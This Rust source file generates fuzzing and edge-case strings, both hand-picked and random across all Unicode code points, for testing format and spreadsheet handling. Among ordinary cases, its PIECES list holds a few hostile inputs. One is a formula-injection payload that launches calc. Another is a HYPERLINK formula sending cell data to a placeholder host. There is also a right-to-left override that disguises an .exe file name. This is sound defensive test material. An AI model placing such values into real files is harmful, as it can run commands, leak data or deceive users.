//! Texts that break files: by hand, and by chance.

use crate::chance::Chance;

/// Marks of formats, of shells, of terminals and of spreadsheets.
const MARKS: &str = "\"'`,;|\\/=+-@%&<>{}[]#\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}\u{a0}\u{ad}\u{200b}\u{200d}\u{2028}\u{2029}\u{3000}\u{feff}\u{fff9}\u{fffd}";

/// What formats, and programs that guess, take for something else. The first is empty.
pub const PIECES: [&str; 48] = [
    "",
    " ",
    "   ",
    " leading",
    "trailing ",
    "\r\n",
    "\n\r",
    "\r\r\n",
    "\n\n",
    "a\r\nb\nc\rd",
    "\"\"",
    "\",\"",
    "a,\"b\"\r\n\"c",
    "\"",
    "\t\t",
    "\\t\\n\\r\\\\\\",
    "\\N",
    "\\u0041\\x41",
    "=1+1",
    "=cmd|'/c calc'!A0",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"y\")",
    "+49 30",
    "-5",
    "-5,5",
    "@SUM(A1)",
    "'",
    "''",
    "'=1",
    "null",
    "None",
    "NaN",
    "Infinity",
    "true",
    "007",
    "1e5",
    "0x1F",
    "12345678901234567890.5",
    "2026-01-31T09:00:00Z",
    "2026-01-31",
    "{\"a\":[1]}",
    "<script>&amp;</script>]]>",
    "&#13;&lt;",
    "e\u{301} \u{e9}",
    "\u{1112}\u{1161}\u{11ab} \u{d55c}",
    "👩\u{200d}👩\u{200d}👧 🏴\u{e0067}\u{e0062}\u{e007f} 👍🏽 🇹🇭 1\u{fe0f}\u{20e3}",
    "invoice\u{202e}fdp.exe \u{2066}a\u{2069}",
    "أين طلبي؟ שלום",
    "ของยังไม่มาเลย 你好，世界",
];

/// Texts to be compared one by one: every control, mark and piece, in front, behind and alone, and of each plane some.
pub fn by_hand() -> Vec<String> {
    let controls = ('\0'..='\u{1f}').chain('\u{7f}'..='\u{9f}');
    let turning = ['\u{61c}', '\u{200e}', '\u{200f}'].into_iter().chain('\u{202a}'..='\u{202e}');
    let edges = ['\u{d7ff}', '\u{e000}', '\u{fdd0}', '\u{fffe}', '\u{ffff}'].into_iter();
    let single = controls.chain(turning).chain('\u{2066}'..='\u{2069}').chain(edges).chain(MARKS.chars());
    let mut texts: Vec<String> =
        single.flat_map(|c| [format!("{c}"), format!("{c}a"), format!("a{c}"), format!("a{c}{c}b")]).collect();
    texts.extend(PIECES.map(str::to_owned));
    texts.extend(PIECES.map(|piece| format!("a {piece} b")));
    for plane in 0..=16 {
        texts.push((1..16).filter_map(|place| char::from_u32((plane << 16) + place * 0xfff)).collect());
        texts.push(
            [0xfffd, 0xfffe, 0xffff].into_iter().filter_map(|last| char::from_u32((plane << 16) + last)).collect(),
        );
    }
    texts.push(format!("a{}b", "\u{301}".repeat(5000)));
    texts.push("long \"quoted\",\r\n".repeat(10_000));
    texts
}

/// So many texts in which each code point there is stands once, in an order of chance; around and between them marks
/// and pieces that stand more often.
pub fn by_chance(count: usize, seed: u64) -> Vec<String> {
    let mut chance = Chance(seed);
    let mut points: Vec<char> = ('\0'..=char::MAX).collect();
    for place in (1..points.len()).rev() {
        points.swap(place, chance.index(place + 1));
    }
    let marks: Vec<char> = MARKS.chars().chain("\0\t\r\n \u{1b}".chars()).collect();
    let mut texts = Vec::with_capacity(count);
    for left in (1..=count).rev() {
        let most = 2 * points.len() / left + 1;
        let length = if left == 1 { points.len() } else { chance.index(most).min(points.len()) };
        let mut text = String::new();
        if chance.below(3) == 0 {
            text.push(marks[chance.index(marks.len())]);
        }
        for c in points.drain(points.len() - length..) {
            text.push(c);
            if chance.below(64) == 0 {
                text.push_str(chance.one_of(&PIECES));
            }
        }
        if chance.below(3) == 0 {
            text.push(marks[chance.index(marks.len())]);
        }
        if chance.below(16) == 0 && length < 8 {
            text.insert_str(0, chance.one_of(&PIECES));
        }
        texts.push(text);
    }
    texts
}

#[test]
fn chance_leaves_out_no_code_point() {
    let texts = by_chance(2000, 1);
    let mut is_there = vec![false; 0x11_0000];
    texts.iter().flat_map(|text| text.chars()).for_each(|c| is_there[c as usize] = true);
    assert_eq!(is_there.iter().filter(|there| **there).count(), 1_112_064);
    assert_eq!(texts.len(), 2000);
    assert_eq!(texts, by_chance(2000, 1));
    assert_ne!(texts, by_chance(2000, 2));
}
